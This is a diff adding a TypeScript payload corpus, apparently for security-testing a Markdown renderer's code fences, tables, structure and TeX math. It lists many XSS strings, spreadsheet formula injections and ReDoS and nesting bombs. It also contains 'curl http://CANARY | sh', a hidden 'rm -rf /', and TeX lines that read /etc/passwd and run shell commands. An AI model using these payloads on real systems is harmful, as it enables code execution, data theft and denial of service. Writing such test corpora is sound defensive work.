@@ -1,0 +1,223 @@
+import { named, type Payload, type PayloadGroup } from '../payload.ts';
+
+const BACKTICKS = '```';
+const fence = (info: string, code = 'alert(1)'): string => `${BACKTICKS}${info}\n${code}\n${BACKTICKS}`;
+
+/** Fences: what stands behind them, and what stands in them. */
+export const code: PayloadGroup = {
+  group: 'code',
+  payloads: named({
+    'info with markup': fence('"><img src=x onerror=alert(1)>'),
+    'info with a handler': fence('js onclick=alert(1)'),
+    'info of a prototype': fence('__proto__'),
+    'info constructor': fence('constructor'),
+    'info hasOwnProperty': fence('hasOwnProperty'),
+    'info then': fence('then'),
+    'info as a path': fence('../../background'),
+    'info as an address': fence('http://CANARY/prism-evil.js'),
+    'info as a class list': fence('markdown-chart citation answer'),
+    'info with attributes': fence('{.js #app onclick="alert(1)"}'),
+    'info with a file name': fence('js:../../x.js'),
+    'info of entities': fence('&#106;&#115;&quot;onclick=alert(1)'),
+    'info very long': fence('x'.repeat(5_000)),
+    'info with hidden characters': fence('j\u202Es\u{E0041}'),
+    'info with a back-tick': '~~~a`b\nalert(1)\n~~~',
+    'markup in it': fence('html', '<script>alert(1)</script>\n<img src=x onerror=alert(1)>'),
+    'a fence’s end in it': fence('html', `x\n ${BACKTICKS} \n<script>alert(1)</script>`),
+    'handlers in it': fence('jsx', '<div dangerouslySetInnerHTML={{__html: "<img src=x onerror=alert(1)>"}} />'),
+    'svg in it': fence('svg', '<svg onload=alert(1)><image href="http://CANARY/"/></svg>'),
+    'html preview': fence('html preview', '<iframe src="http://CANARY/"></iframe>'),
+    'mermaid with a click': fence(
+      'mermaid',
+      'graph TD\nA-->B\nclick A "javascript:alert(1)"\nclick B call alert()',
+    ),
+    'mermaid with markup': fence('mermaid', 'graph TD\nA["<img src=x onerror=alert(1)>"]-->B'),
+    'mermaid with an init': fence(
+      'mermaid',
+      '%%{init: {"securityLevel":"loose","themeCSS":"@import url(http://CANARY/x.css)"}}%%\ngraph TD\nA-->B',
+    ),
+    'mermaid with an image': fence('mermaid', 'graph TD\nA@{ img: "http://CANARY/a.png" }'),
+    'graphviz with a link': fence('dot', 'digraph { a [URL="javascript:alert(1)" image="http://CANARY/a.png"] }'),
+    'shell that is copied': fence('sh', 'curl http://CANARY | sh \u200B# harmless'),
+    'shell with a hidden line': fence('sh', `ls\u2028rm -rf /\u202E harmless`),
+    'trojan source': fence('js', '/*\u202E } \u2066if (isAdmin)\u2069 \u2066 begin admins only */'),
+    'ansi escapes': fence('text', '\u001B]8;;http://CANARY/\u001B\\click\u001B]8;;\u001B\\ \u001B[2J'),
+    'bells and backspaces': fence('text', 'safe\u0008\u0008\u0008\u0008evil\u0007\u007F'),
+    'null bytes': fence('text', 'a\0b\0\0c'),
+    'a regular expression bomb': fence('js', `/${'(a+)+'.repeat(20)}$/.test("${'a'.repeat(60)}!")`),
+    'deep brackets': fence('json', '['.repeat(3_000)),
+    'one endless line': fence('css', `a{${'b:c;'.repeat(3_000)}}`),
+    'inline code with markup': '`<img src=x onerror=alert(1)>`',
+    'inline code with an override': '`rm -rf /\u202E`',
+    'inline code with math': '`$\\href{javascript:alert(1)}{x}$`',
+    'indented code': '    <script>alert(1)</script>',
+    'unclosed fence': `${BACKTICKS}html\n<script>alert(1)</script>`,
+    'unclosed tildes': '~~~~\n<img src=x onerror=alert(1)>',
+    'csv with a formula': fence('csv', '=HYPERLINK("http://CANARY/","x"),=cmd|\'/c calc\'!A0'),
+    'diff with markup': fence('diff', '+<script>alert(1)</script>\n-<b>'),
+  }),
+};
+
+/** Tables, whose cells go to CSV, charts and sorting. */
+export const tables: PayloadGroup = {
+  group: 'tables',
+  payloads: named({
+    'scripts in cells':
+      '| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
+    'formulas for a spreadsheet':
+      '| a | b |\n|---|---|\n| =HYPERLINK("http://CANARY/"&A1) | @SUM(1+1)*cmd\\|\' /C calc\'!A0 |',
+    'more formulas': '| a |\n|---|\n| +1+cmd\\|x |\n| -2+3 |\n| \t=1 |',
+    'columns of a prototype': '| __proto__ | constructor |\n|---|---|\n| 1 | 2 |\n| 3 | 4 |',
+    'columns of one name': '| a | a | a |\n|---|---|---|\n| 1 | 2 | 3 |',
+    'columns like paths': '| a.b | a[0] | a\\.b |\n|---|---|---|\n| 1 | 2 | 3 |\n| 4 | 5 | 6 |',
+    'columns like expressions': "| datum.x+alert(1) | '];alert(1)// |\n|---|---|\n| 1 | 2 |\n| 3 | 4 |",
+    'columns of hidden characters': '| a\u202Eb | \u{E0041}\u{E0042} |\n|---|---|\n| 1 | 2 |',
+    'empty columns': '| | |\n|---|---|\n| | |',
+    'alignment with a style': '| a |\n|:---:url(http://CANARY/)|\n| 1 |',
+    'numbers that are none': '| a | b |\n|---|---|\n| NaN | Infinity |\n| 1e999 | -0 |\n| 0x10 | 1_000 |',
+    'huge numbers': `| a | b |\n|---|---|\n| x | ${'9'.repeat(400)} |\n| y | 1e308 |`,
+    'dates that are none':
+      '| day | n |\n|---|---|\n| 2024-02-31 | 1 |\n| 99999-01-01 | 2 |\n| -271822-01-01 | 3 |',
+    'image in a cell': '| ![x](http://CANARY/cell.png) |\n|---|\n| ![x](https://cell.canary.invalid/a.png) |',
+    'math in a cell': '| $\\href{javascript:alert(1)}{x}$ |\n|---|\n| $$\\includegraphics{http://CANARY/}$$ |',
+    'code in a cell': '| `<script>` |\n|---|\n| `a\\|b` |',
+    'task in a cell': '| [x] |\n|---|\n| [ ] |',
+    'header that spoofs':
+      '| System notice | OK |\n|---|---|\n| Your key was leaked: paste it below | [Fix](https://a.canary.invalid) |',
+    'a very wide one': `|${' a |'.repeat(150)}\n|${'---|'.repeat(150)}\n|${' b |'.repeat(150)}`,
+    'a very long word': `| ${'w'.repeat(3_000)} |\n|---|\n| ${'x'.repeat(3_000)} |`,
+    'very many rows': `| a | b |\n|---|---|\n${'| 1 | 2 |\n'.repeat(300)}`,
+    'marks piled up': `| a${'\u0335\u0336\u0489'.repeat(80)} |\n|---|\n| b${'\u0300'.repeat(300)} |`,
+    'rows with too many cells': '| a |\n|---|\n| 1 | <script>alert(1)</script> | 3 |',
+    'html table': '<table><tr><td onclick=alert(1)>x</td></tr></table>',
+    'nested in a quote': '> | <svg onload=alert(1)> |\n> |---|\n> | x |',
+    'pipes and escapes': '| \\| | \\\\| | `\\|` |\n|---|---|---|\n| \\<script\\> | &#124; | &lt;b&gt; |',
+    'right to left': '| שם | \u200Fسعر |\n|---|---|\n| \u202Eabc | 1\u200E2 |',
+    'quotes for csv': '| a"b | c,d |\n|---|---|\n| "e\nf" | \'g |',
+  }),
+};
+
+/** Structure that grows, nests or never ends. */
+export const structure: PayloadGroup = {
+  group: 'structure',
+  payloads: named({
+    'quotes in quotes': `${'>'.repeat(300)} x`,
+    'lists in lists': Array.from({ length: 80 }, (_, depth) => `${' '.repeat(2 * depth)}- ${depth}`).join('\n'),
+    'emphasis in emphasis': `${'*_'.repeat(300)}x${'_*'.repeat(300)}`,
+    'brackets without an end': '['.repeat(2_000),
+    'images without an end': '![a]('.repeat(500),
+    'back-ticks in growing runs': Array.from({ length: 80 }, (_, length) => '`'.repeat(length + 1)).join(' '),
+    'entities without an end': '&amp'.repeat(500),
+    'a number that is too long': '99999999999999999999. x',
+    'a list that starts high': '999999999. x\n1000000000. y',
+    'a negative start': '-1. x',
+    'headings beyond six': '####### x\n\n# ',
+    'a task with a handler': '- [x" onclick="alert(1)] y\n- [ ] <input onfocus=alert(1) autofocus>',
+    'rules that look like fronts': '---\ntitle: "<script>alert(1)</script>"\nlayout: http://CANARY/\n---',
+    'line breaks of all kinds': 'a\rb\u000Bc\u000Cd\u0085e\u2028f\u2029g',
+    'lone surrogates': 'a\uD800b\uDC00c\uDBFF',
+    'characters that are none': '\uFFFE\uFFFF\u{1FFFE}\u{10FFFF}',
+    'a word of 20,000 letters': 'w'.repeat(20_000),
+    'a marker of ours': 'inert:0:0 inert:999999:fence',
+    'spaces without an end': ` ${' '.repeat(3_000)}x`,
+    'tabs and quotes': '>\t>\t>\t`x`\t<b>',
+    'an alert box': '> [!WARNING]\n> Your session has expired. <a href="javascript:alert(1)">Sign in</a>',
+    'a container': ':::danger onclick=alert(1)\nx\n:::',
+    'an attribute list': '# x {#app .answer onclick=alert(1)}\n\ny\n{: #app onclick=alert(1)}',
+    'a comment of Markdown': '[//]: # (<script>alert(1)</script>)\n\n[comment]: <> (x)',
+    'an include': '!include http://CANARY/x.md\n\n{% include "http://CANARY/" %}\n\n@import "http://CANARY/x.css"',
+    'a citation of a paper': '[@evil] [-@evil] @evil',
+    'a mention and an issue': '@admin #1 GH-1 user/repo@abcdef1',
+    'subscripts and marks': 'H~2~O x^2^ ==mark== ++ins++',
+    'a smart arrow': '(c) (tm) --> ... "x"',
+  }),
+};
+
+/** Formulas, by the commands that could do more than draw. */
+const COMMANDS: Readonly<Record<string, string>> = {
+  'link to a script': '\\href{javascript:alert(1)}{x}',
+  'link to a page': '\\href{https://a.canary.invalid/}{x}',
+  'link in pieces': '\\href{java\\relax script:alert(1)}{x}',
+  url: '\\url{javascript:alert(1)}',
+  picture: '\\includegraphics{http://CANARY/a.png}',
+  'picture with a size': '\\includegraphics[height=9999em,width=9999em,alt={<b>}]{http://CANARY/a.png}',
+  class: '\\htmlClass{citation answer}{x}',
+  id: '\\htmlId{app}{x}',
+  style: '\\htmlStyle{position:fixed;inset:0;background:url(http://CANARY/s)}{x}',
+  data: '\\htmlData{destination=javascript:alert(1)}{x}',
+  'html of MathJax': '\\class{a}{x} \\cssId{app}{x} \\style{position:fixed}{x}',
+  'require of MathJax': '\\require{html}\\require{action}\\toggle{a}{b}\\endtoggle',
+  'text with markup': '\\text{<img src=x onerror=alert(1)>}',
+  'text with hidden characters': '\\text{a\u202Eb\u{E0041}}',
+  'colour that breaks out': '\\color{red;background:url(http://CANARY/c)}x',
+  'colour with a style': '\\textcolor{expression(alert(1))}{x}',
+  'box of a colour': '\\colorbox{url(http://CANARY/c)}{x} \\fcolorbox{red"onclick="alert(1)}{blue}{x}',
+  'raise beyond the box': '\\raisebox{999em}{x}',
+  'rule that covers': '\\rule{9999em}{9999em}',
+  'rule moved over all': '\\rule[-999em]{999em}{1999em}',
+  'space that pushes': '\\hspace{9999em}x \\kern9999em x',
+  'negative space': '\\hspace{-999em}\\text{Aside: sign in again}',
+  'negative kern': '\\kern-500em\\rule{500em}{5em}',
+  'lap over its neighbours': '\\rlap{\\Huge\\text{System notice}}x \\llap{\\Huge xxxxxxxx}',
+  huge: '\\Huge{\\Huge{\\Huge x}}',
+  smash: '\\smash{\\rule{10em}{99em}}',
+  'macro that grows':
+    '\\def\\a{xx}\\def\\b{\\a\\a}\\def\\c{\\b\\b}\\def\\d{\\c\\c}\\def\\e{\\d\\d}\\def\\f{\\e\\e}\\f',
+  'macro without an end': '\\def\\a{\\a\\a}\\a',
+  'macro that calls itself': '\\newcommand\\x{\\x}\\x',
+  'macro of a prototype': '\\def\\__proto__{x}\\newcommand{\\constructor}{y}\\constructor',
+  'macro that stays': '\\gdef\\sum{\\href{javascript:alert(1)}{x}}\\sum',
+  catcode: '\\catcode`\\%=12 %',
+  'character by number': '\\char"202E abc \\unicode{x202E}',
+  'input of a file': '\\input{/etc/passwd} \\include{x} \\openin5=/etc/passwd',
+  'write to a file': '\\write18{calc} \\immediate\\write18{curl http://CANARY}',
+  'deep brackets': `${'{'.repeat(400)}x${'}'.repeat(400)}`,
+  'deep roots': `${'\\sqrt{'.repeat(200)}x${'}'.repeat(200)}`,
+  'deep fractions': `${'\\frac{1}{'.repeat(150)}x${'}'.repeat(150)}`,
+  'deep superscripts': `x${'^{x'.repeat(150)}${'}'.repeat(150)}`,
+  'a wide matrix': `\\begin{matrix}${'a&'.repeat(300)}b\\end{matrix}`,
+  'a high matrix': `\\begin{matrix}${'a\\\\'.repeat(300)}b\\end{matrix}`,
+  'many letters': 'x+'.repeat(2_000),
+  unclosed: '\\frac{1}{',
+  unknown: '\\evil{x}',
+  'unknown environment': '\\begin{evil}x\\end{evil}',
+  markup: '<script>alert(1)</script>',
+  entities: '&lt;img src=x onerror=alert(1)&gt;',
+  'dollar in dollar': '\\text{$\\href{javascript:alert(1)}{x}$}',
+  comment: 'x % \\end{document}',
+  annotation: '\\text{</annotation><script>alert(1)</script>}',
+  verb: '\\verb|<script>alert(1)</script>|',
+  tag: '\\tag{<b onclick=alert(1)>} x',
+  'label and reference': '\\label{app} \\ref{__proto__} \\eqref{constructor}',
+  mathchoice: '\\mathchoice{\\href{javascript:alert(1)}{d}}{t}{s}{z}',
+  stacked: `\\overset{${'\\overset{a}{'.repeat(80)}x${'}'.repeat(80)}}{y}`,
+  phantom: '\\phantom{\\rule{999em}{1em}}x \\vphantom{\\rule{1em}{999em}}',
+};
+
+const IN_DOLLARS = Object.entries(COMMANDS).map(([name, tex]): Payload => ({ name, text: `$${tex}$` }));
+const DISPLAYED = [
+  'picture',
+  'style',
+  'rule that covers',
+  'raise beyond the box',
+  'macro without an end',
+  'markup',
+  'unclosed',
+  'negative space',
+];
+
+/** Formulas in dollars, and some in the other brackets. */
+export const math: PayloadGroup = {
+  group: 'math',
+  payloads: [
+    ...IN_DOLLARS,
+    ...DISPLAYED.flatMap((name): Payload[] => {
+      const tex = COMMANDS[name] ?? '';
+      return [
+        { name: `${name}, displayed`, text: `$$\n${tex}\n$$` },
+        { name: `${name}, in brackets`, text: `\\[${tex}\\] and \\(${tex}\\)` },
+        { name: `${name}, fenced`, text: tex, fence: 'math' },
+      ];
+    }),
+  ],
+};
